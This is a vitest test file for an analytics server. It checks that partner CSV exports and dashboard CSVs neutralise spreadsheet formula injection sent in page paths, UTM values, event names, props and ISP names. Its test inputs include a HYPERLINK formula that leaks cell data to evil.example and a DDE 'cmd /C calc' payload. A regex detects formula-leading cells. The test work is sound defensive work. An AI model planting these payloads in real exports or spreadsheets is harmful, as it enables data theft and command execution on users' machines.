// CSV formula injection: hostile page paths, UTM values, event names, props and ISP names, sent
// as visitors send them, come out of a partner export and the dashboard's CSV as text a
// spreadsheet shows rather than runs.
import { writeFileSync } from 'node:fs'
import path from 'node:path'
import { strFromU8, unzipSync } from 'fflate'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { toCsv } from '../../dashboard/src/panels.ts'
import { rollupDay } from '../../server/rollup/rollup.ts'
import { addDays, dayOf } from '../../server/time.ts'
import { csvRecords } from '../helpers/csv.ts'
import { asnMmdbOfQuarters } from '../helpers/mmdb.ts'
import { adminCall, query, sendEvent, startInProcess, tempDir, type RunningSkaits } from '../helpers/skaits.ts'

const HOSTILE: [string, string, string, string] = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1)']
/** One network per hostile value: the test ISP database names the IPv4 quarters. */
const NETWORKS = [20, 65, 130, 200]
const VISITORS = 6
const K = 5
// Yesterday by the clock: a closed day, well inside the raw tables' retention.
const DAY = addDays(dayOf(Date.now(), 'UTC'), -1)
const FORMULA = /^[=+\-@\t\r]/
const dataDir = tempDir()
let server: RunningSkaits

const admin = (method: string, path: string, body?: unknown) => adminCall(server.url, method, path, body)

async function visit(value: string, ip: string): Promise<void> {
  const tag = encodeURIComponent(value)
  const u = `https://example.lv/${tag}?utm_source=${tag}&utm_medium=${tag}&utm_campaign=${tag}`
  for (const body of [
    { n: 'pageview', u, d: 'example.lv' },
    { n: value, u, d: 'example.lv', p: { plan: value } },
  ]) {
    const res = await sendEvent(server.url, body, { ip })
    expect(res.status).toBe(202)
  }
}

const sorted = (xs: string[]) => [...xs].sort()
const neutralised = HOSTILE.map((v) => `'${v}`)

describe('CSV of hostile values', () => {
  beforeAll(async () => {
    const ispDb = path.join(dataDir, 'isp.mmdb')
    writeFileSync(ispDb, asnMmdbOfQuarters(HOSTILE))
    server = await startInProcess({ dataDir, clock: () => Date.parse(`${DAY}T10:00:00Z`), env: { TIMEZONE: 'UTC', ISP_LOOKUP: 'dns', ISP_DB: ispDb } })
    for (const [i, value] of HOSTILE.entries()) {
      for (let v = 1; v <= VISITORS; v++) await visit(value, `${NETWORKS[i]}.0.${v}.1`)
    }
    await server.skaits.buffer.flush()
    await rollupDay(server.db, DAY, 'UTC')
  })
  afterAll(async () => {
    await server?.stop()
  })

  it('neutralises every text cell of a partner export and leaves the numbers alone', async () => {
    const dimensions = ['visit:source', 'visit:utm_source', 'visit:utm_medium', 'visit:utm_campaign', 'event:page', 'visit:entry_page', 'visit:isp']
    const created = await admin('POST', '/api/partners', { site: 'example.lv', dimensions, finest: 'day', coarsest: 'day', k: K })
    expect(created.status).toBe(201)
    const res = await fetch(`${server.url}/export/${created.json.token}?from=${DAY}&to=${DAY}&granularity=day&format=csv`)
    expect(res.status).toBe(200)
    const zip = unzipSync(new Uint8Array(await res.arrayBuffer()))
    const suffix = `${DAY.replaceAll('-', '')}_${DAY.replaceAll('-', '')}`
    const file = (name: string) => {
      const bytes = zip[`${name}_${suffix}.csv`]
      expect(bytes, name).toBeDefined()
      return strFromU8(bytes!)
    }
    const column = (name: string, col: string) => sorted(csvRecords(file(name)).map((r) => r[col]!))

    // Values sent as text read back as that text behind a quote; paths begin with `/` and need none.
    expect(column('imported_sources', 'source')).toEqual(sorted(neutralised))
    for (const utm of ['utm_source', 'utm_medium', 'utm_campaign']) expect(column(`skaits_${utm}`, utm), utm).toEqual(sorted(neutralised))
    expect(column('skaits_isp', 'isp')).toEqual(sorted(neutralised))
    expect(column('imported_pages', 'page')).toEqual(sorted(HOSTILE.map((v) => `/${v}`)))
    expect(column('imported_entry_pages', 'entry_page')).toEqual(sorted(HOSTILE.map((v) => `/${v}`)))
    expect(file('skaits_isp')).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`)

    const numeric = new Set(['visitors', 'visits', 'pageviews', 'bounces', 'visit_duration', 'entrances'])
    for (const name of Object.keys(zip).filter((n) => n.endsWith('.csv'))) {
      const records = csvRecords(strFromU8(zip[name]!))
      expect(records.length, name).toBeGreaterThan(0)
      for (const record of records) {
        for (const [col, cell] of Object.entries(record)) {
          if (numeric.has(col)) expect(cell, `${name} ${col}`).toMatch(/^\d*$/)
          else expect(cell, `${name} ${col}`).not.toMatch(FORMULA)
        }
        if (record.visitors) expect(Number(record.visitors)).toBeGreaterThanOrEqual(K)
      }
    }
    expect(column('imported_visitors', 'visitors')).toEqual([String(HOSTILE.length * VISITORS)])
  })

  it("neutralises the dashboard's CSV of event names, props and ISPs as the Stats API answers them", async () => {
    for (const dimension of ['event:name', 'event:props:plan', 'visit:isp', 'visit:utm_campaign', 'event:page']) {
      const metrics = ['visitors']
      const { status, json } = await query(server.url, { metrics, dimensions: [dimension], date_range: [DAY, DAY], pagination: { limit: 10_000, offset: 0 } })
      expect(status, JSON.stringify(json)).toBe(200)
      // As the dashboard's downloadCsv builds it: the value, then the metrics.
      const rows = (json.results as { dimensions: string[]; metrics: (number | null)[] }[]).map((r) => [r.dimensions[0] ?? '', ...r.metrics])
      const records = csvRecords(toCsv([dimension.slice(dimension.indexOf(':') + 1), ...metrics], rows))
      const values = records.map((r) => Object.values(r)[0]!)
      const expected = dimension === 'event:page' ? HOSTILE.map((v) => `/${v}`) : neutralised
      expect(sorted(values.filter((v) => v !== 'pageview')), dimension).toEqual(sorted(expected))
      for (const record of records) {
        for (const cell of Object.values(record)) expect(cell, dimension).not.toMatch(FORMULA)
      }
    }
  })
})
